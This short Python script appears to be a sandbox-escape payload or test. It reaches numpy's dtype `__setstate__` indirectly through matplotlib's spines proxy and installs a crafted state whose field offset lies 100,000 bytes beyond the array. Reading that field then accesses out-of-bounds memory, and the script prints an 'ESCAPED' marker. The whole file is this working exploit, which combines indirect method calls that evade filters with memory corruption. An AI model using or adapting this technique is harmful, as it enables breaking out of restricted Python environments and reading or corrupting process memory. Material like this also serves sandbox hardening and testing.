"""The same function sets the state of a type: a field beyond the array."""
import matplotlib.pyplot as plt
import numpy as np

call = plt.subplots()[1].spines[:].set_visible.func
kind = np.dtype([("a", "i8"), ("b", "i8")])
call([kind], "__setstate__", (3, "|", None, ("a",), {"a": (np.dtype("u1"), 100_000)}, 8, 1, 0))
print("ESCAPED:state_by_spines", np.zeros(2, kind)["a"])
